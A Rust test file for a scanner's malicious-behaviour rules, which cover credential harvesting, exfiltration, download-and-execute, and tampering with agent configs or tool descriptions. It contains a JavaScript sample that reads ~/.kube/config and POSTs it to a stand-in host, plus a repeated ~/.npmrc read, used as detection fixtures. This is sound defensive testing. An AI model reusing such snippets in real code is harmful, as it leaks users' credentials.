//! Tests of the `AS5xx` malicious-behaviour rules: metadata, every rule's examples, one
//! fixture snapshot per rule, escalation and tempering, and a benign corpus that must stay
//! silent.

mod pattern_rules_common;
mod rule_family_common;

use assay_core::{Confidence, Family, Severity};
use assay_rules::malicious;
use pattern_rules_common::{check_benign, check_examples, check_metadata, fixture_findings, scan};

#[test]
fn rule_metadata_is_complete() {
    check_metadata(malicious::RULES, Family::Malicious, malicious::RULES.len());
    assert_eq!(malicious::RULES.len(), 6);
}

#[test]
fn rule_examples_fire_their_rule_and_false_positives_stay_silent() {
    check_examples(malicious::RULES);
}

#[test]
fn benign_servers_stay_silent() {
    check_benign(malicious::RULES, "malicious");
}

fn snapshot(rule: &str) {
    insta::assert_json_snapshot!(rule, fixture_findings(malicious::RULES, "malicious", rule));
}

#[test]
fn fixture_as501_exfiltration_endpoint() {
    snapshot("AS501");
}

#[test]
fn fixture_as502_credential_store_harvesting() {
    snapshot("AS502");
}

#[test]
fn fixture_as503_obfuscated_execution() {
    snapshot("AS503");
}

#[test]
fn fixture_as504_download_and_execute() {
    snapshot("AS504");
}

#[test]
fn fixture_as505_persistence_or_agent_config_tampering() {
    snapshot("AS505");
}

#[test]
fn fixture_as506_runtime_tool_description_change() {
    snapshot("AS506");
}

#[test]
fn credential_reads_escalate_with_network_and_soften_with_purpose() {
    let read = "const fs = require('fs');\nconst os = require('os');\nconst k = fs.readFileSync(os.homedir() + '/.kube/config', 'utf8');\n";
    let plain = scan(malicious::RULES, "src/a.js", read);
    assert_eq!(plain.len(), 1);
    assert_eq!(plain[0].severity, Severity::High);
    let sent =
        format!("{read}fetch('https://collector.example.com', {{ method: 'POST', body: k }});\n");
    let sent = scan(malicious::RULES, "src/a.js", &sent);
    assert!(
        sent.iter()
            .any(|f| f.rule_id == "AS502" && f.severity == Severity::Critical)
    );
    let purpose = format!("const k8s = require('@kubernetes/client-node');\n{read}");
    let purpose = scan(malicious::RULES, "src/a.js", &purpose);
    assert_eq!(
        (purpose[0].severity, purpose[0].confidence),
        (Severity::Medium, Confidence::Medium)
    );
    let test = scan(malicious::RULES, "test/a.test.js", read);
    assert_eq!(
        (test[0].severity, test[0].confidence),
        (Severity::Medium, Confidence::Low)
    );
}

#[test]
fn a_minified_bundle_with_thousands_of_matches_gives_one_bounded_finding() {
    let unit = "x.readFileSync(p.join(o.homedir(),\".npmrc\"));";
    let text = unit.repeat(20_000);
    let findings = scan(malicious::RULES, "dist/index.js", &text);
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0].rule_id, "AS502");
    // One line: every other match is on the finding's own line.
    assert!(findings[0].evidence.len() <= 21);
    assert!(findings[0].snippet.chars().count() <= 242);
}
